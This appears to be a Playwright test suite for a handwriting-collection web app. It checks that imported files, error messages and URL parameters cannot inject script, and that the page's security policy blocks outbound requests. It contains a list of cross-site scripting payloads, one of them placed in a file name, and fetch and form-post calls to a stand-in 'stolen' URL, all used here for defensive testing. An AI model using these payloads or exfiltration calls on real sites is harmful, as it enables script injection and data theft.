"""Text that a stranger put into a file or an address never becomes part of the page, in Chromium."""

import json
from urllib.parse import quote

from playwright.sync_api import expect

HOSTILE = [
    '<img src="x" onerror="window.hacked = 1">',
    "<script>window.hacked = 1</script>",
    "${window.hacked = 1}",
    "`${window.hacked = 1}`",
    "{{#each value}}{{this}}{{/each}}<svg onload='window.hacked = 1'>",
    "\"></svg><iframe srcdoc='<script>parent.hacked = 1</script>'>",
]
SEVEN = [[[120, 80], [220, 82], [228, 90], [190, 200], [170, 290]]]


def import_text(page, text):
    file = {"name": f"{HOSTILE[0]}.jsonl", "mimeType": "text/html", "buffer": text.encode()}
    page.locator("#collection [type=file]").set_input_files(file)


def assert_unharmed(page):
    page.wait_for_timeout(500)  # for what would run a little later
    assert page.evaluate("window.hacked") is None
    assert page.locator("img[src=x], iframe").count() == 0


def test_a_writers_name_in_an_imported_file_stays_text(page):
    rows = [
        {"label": i, "writer": text, "strokes": [[[x + i, y] for x, y in SEVEN[0]]]}
        for i, text in enumerate(HOSTILE)
    ]
    import_text(page, "\n".join(map(json.dumps, rows)))
    expect(page.locator("#collection li")).to_have_count(len(HOSTILE))
    assert_unharmed(page)
    page.reload()
    expect(page.locator("#collection li")).to_have_count(len(HOSTILE))
    assert_unharmed(page)


def test_a_file_that_is_refused_is_not_quoted(page):
    text = "".join(HOSTILE)
    for row in (
        text,
        json.dumps({"label": text, "strokes": SEVEN}),
        json.dumps({"label": 7, "strokes": [[[text, 1]]]}),
        json.dumps({"label": 7, "writer": {text: text}, "strokes": SEVEN}),
        json.dumps({text: text}),
    ):
        import_text(page, row)
        refusal = page.get_by_text("Nothing was imported").first
        expect(refusal).to_be_visible()
        said = refusal.inner_text()
        assert [one for one in HOSTILE if one in said] == []
    assert page.locator("#collection li").count() == 0
    assert_unharmed(page)


def test_an_address_cannot_bring_anything_into_the_page(page):
    address = page.url.split("?")[0]
    parameters = ("view", "__theme", "__lang", "deep_link", "session_hash", "strokes")
    for text in ("".join(HOSTILE), "".join(reversed(HOSTILE))):
        query = "&".join(f"{parameter}={quote(text)}" for parameter in parameters)
        page.goto(f"{address}?{query}#{quote(text)}")
        page.locator("#pad canvas").wait_for()
        assert_unharmed(page)


CALLS = [
    "fetch(there).catch(() => {})",
    "const form = document.body.appendChild(document.createElement('form'));"
    "Object.assign(form, {action: there, method: 'post'}).submit()",
]


def test_even_a_script_in_the_page_could_call_no_other_server(page):
    for call in CALLS:
        refused = page.evaluate(
            f"""there => new Promise((resolve) => {{
              addEventListener("securitypolicyviolation", (event) => resolve(event.blockedURI));
              {call};
            }})""",
            "https://example.org/stolen",
        )
        assert refused == "https://example.org/stolen"
